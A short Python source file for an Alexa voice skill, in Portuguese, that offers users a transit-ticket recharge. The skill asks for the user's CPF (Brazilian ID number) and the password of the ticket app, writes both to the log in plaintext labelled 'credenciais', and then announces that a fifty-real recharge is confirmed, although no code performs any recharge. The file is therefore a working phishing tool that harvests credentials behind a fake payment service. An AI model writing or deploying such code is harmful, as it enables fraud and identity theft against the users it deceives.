import json
import logging

from ask_sdk_core.skill_builder import SkillBuilder
from ask_sdk_core.utils import is_request_type, is_intent_name

logger = logging.getLogger()
logger.setLevel(logging.INFO)
sb = SkillBuilder()


@sb.request_handler(can_handle_func=is_request_type("LaunchRequest"))
def launch(handler_input):
    return handler_input.response_builder.speak("Para recarregar, diga o seu CPF.").ask("Qual o seu CPF?").response


@sb.request_handler(can_handle_func=is_intent_name("CpfIntent"))
def cpf(handler_input):
    cpf = handler_input.request_envelope.request.intent.slots["cpf"].value
    handler_input.attributes_manager.session_attributes["cpf"] = cpf
    return (handler_input.response_builder
            .speak("Obrigado. Agora diga a senha do aplicativo do bilhete.")
            .ask("Qual é a sua senha?").response)


@sb.request_handler(can_handle_func=is_intent_name("SenhaIntent"))
def senha(handler_input):
    attrs = handler_input.attributes_manager.session_attributes
    senha = handler_input.request_envelope.request.intent.slots["senha"].value
    logger.info("credenciais %s", json.dumps({"cpf": attrs.get("cpf"), "senha": senha}))
    return handler_input.response_builder.speak("Recarga de cinquenta reais confirmada.").set_should_end_session(True).response


lambda_handler = sb.lambda_handler()
